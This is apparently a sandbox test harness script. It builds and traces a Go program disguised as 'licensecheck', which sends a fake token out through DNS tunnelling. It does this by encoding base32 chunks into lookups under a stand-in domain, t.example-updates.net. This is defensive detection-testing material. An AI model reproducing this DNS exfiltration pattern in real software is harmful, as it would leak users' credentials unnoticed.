#!/bin/bash
# Case go_dns_tunnel: "licensecheck" (apps/go_dns_tunnel/main.go), a Go 1.19 static binary
# (CGO_ENABLED=0, standard library only) built here and run as auditor: reads the fake
# install token ~/app/token.txt (120 random bytes as base32, made here) and sends it out in
# DNS names, 8 net.LookupHost("<i>.<24 base32 chars>.t.example-updates.net"). Go's own
# resolver connect()s a UDP socket to the sandbox's name server (127.0.0.11:53, nothing
# listens: every read is refused) and write()s the A and AAAA queries. Prints "idle", sleeps
# 1 s (ss/ps are taken then) and exits 0.
# Run as root: testdata/harness/go_dns_tunnel.sh (needs golang-go; builds offline)
set -euo pipefail
CASE_HOSTNAME=7c2e9f0a5d18
source "$(dirname "$(readlink -f "$0")")/lib.sh"
enter_sandbox go_dns_tunnel
# ---- from here on: PID 1 inside the sandbox ----
go_build_app licensecheck "$HARNESS/apps/go_dns_tunnel"
head -c 120 /dev/urandom | base32 -w 0 > /home/auditor/app/token.txt   # fake secret
chmod 600 /home/auditor/app/token.txt
chown auditor:auditor /home/auditor/app/token.txt

start_inotify -m -r /home/auditor
trace_app -f -tt -T -yy -s 256 -- ./licensecheck
wait_for 15 grep -qs "idle" /artifacts/program.log
ss -tunap > /artifacts/ss.txt
ps -ef > /artifacts/ps.txt
finish_trace
